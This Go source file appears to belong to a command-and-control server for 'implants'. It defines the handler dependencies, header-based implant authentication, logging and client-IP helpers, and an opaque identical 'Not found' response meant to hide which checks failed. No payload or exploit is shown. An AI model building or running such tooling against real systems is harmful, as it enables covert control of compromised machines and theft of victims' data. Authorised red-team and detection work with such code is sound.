// Package handlers implements the implant-facing protocol endpoints: the
// registration handshake, reconnect, task poll and file transfer, and
// result ingestion (spec §4.5–§4.8). Each handler is a plain
// http.HandlerFunc closing over a Deps value; there is no package-level
// state, so every collaborator a handler needs is an explicit, visible
// dependency rather than a global.
package handlers

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"

	"github.com/dustin/go-humanize"

	"github.com/duskrelay/beaconsrv/implant"
	"github.com/duskrelay/beaconsrv/notify"
	"github.com/duskrelay/beaconsrv/registry"
	"github.com/duskrelay/beaconsrv/reqauth"
	"github.com/duskrelay/beaconsrv/screenshot"
	"github.com/duskrelay/beaconsrv/shield"
	"github.com/duskrelay/beaconsrv/store"
)

// Deps holds every collaborator a handler needs. Constructed once in
// cmd/beaconsrv and shared read-only across all requests; the only mutable
// state reachable from it is the Registry's implant records, which manage
// their own locking.
type Deps struct {
	Registry   *registry.Registry
	Store      store.Store
	Notifier   notify.Sink
	Shib       reqauth.Shibboleths
	XORKey     []byte
	UploadsDir string
	Screenshot screenshot.Processor
	ServerID   string
	TrustProxy bool
}

// writeJSON writes v as the JSON response body with the given status code.
func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(v)
}

// notFound writes the protocol's single opaque failure body (spec §7, §8
// property 1) — every implant-visible failure path looks identical, so no
// check that failed can ever be inferred from the response.
func notFound(w http.ResponseWriter) {
	writeJSON(w, http.StatusNotFound, map[string]string{"status": "Not found"})
}

func ok(w http.ResponseWriter) {
	writeJSON(w, http.StatusOK, map[string]string{"status": "OK"})
}

// authenticate runs the three-header check and, on success, looks the
// implant up in the registry. Handlers call this first; on any failure the
// caller must respond with notFound and do nothing else.
func authenticate(r *http.Request, deps *Deps) (reqauth.Result, *implant.Record, bool) {
	res := reqauth.Authenticate(r, deps.Shib, deps.Notifier)
	if !res.OK {
		return res, nil, false
	}
	rec, found := deps.Registry.GetByID(res.ImplantID)
	if !found {
		deps.Notifier.ReportBadRequest(r.Context(), reqauth.IDNotFound, r.RemoteAddr, res.ImplantID)
		return res, nil, false
	}
	return res, rec, true
}

// logStoreErr logs a persistence failure without affecting the implant-
// facing response: DB outages must never surface as a protocol-visible
// error (spec §6 "storage is best-effort from the protocol's perspective").
func logStoreErr(ctx context.Context, op string, err error) {
	shield.GetLogger(ctx).Error("store operation failed", "op", op, "error", err)
}

// logFileTransfer records a human-readable operator log line for a
// completed hosted/downloaded file transfer (spec §4.7 steps 5 and 4).
func logFileTransfer(ctx context.Context, implantID, filename string, size int64, direction string) {
	shield.GetLogger(ctx).Info("file transfer complete",
		"implant_id", implantID, "filename", filename, "size", humanize.Bytes(uint64(size)), "direction", direction)
}

// logExternalIPChange records the operator-visible (non-bad-request) log
// line spec §4.6 calls for when a check-in's observed source address
// differs from what's on file.
func logExternalIPChange(ctx context.Context, implantID, remoteAddr string) {
	shield.GetLogger(ctx).Info("implant external IP changed", "implant_id", implantID, "remote_addr", remoteAddr)
}

// logKillCommandSeen is purely informational (spec §9 open question: the
// kill-command peek has no effect on delivery).
func logKillCommandSeen(ctx context.Context, implantID string) {
	shield.GetLogger(ctx).Info("pending kill command observed", "implant_id", implantID)
}

// externalIP returns the request's observed source address, trusting
// proxy headers only when Deps.TrustProxy is set (spec §4.5 "trusting
// proxy headers if configured").
func externalIP(r *http.Request, trustProxy bool) string {
	if trustProxy {
		if fwd := r.Header.Get("X-Forwarded-For"); fwd != "" {
			if i := strings.IndexByte(fwd, ','); i >= 0 {
				return strings.TrimSpace(fwd[:i])
			}
			return strings.TrimSpace(fwd)
		}
		if real := r.Header.Get("X-Real-IP"); real != "" {
			return real
		}
	}
	host := r.RemoteAddr
	if i := strings.LastIndexByte(host, ':'); i >= 0 {
		host = host[:i]
	}
	return host
}
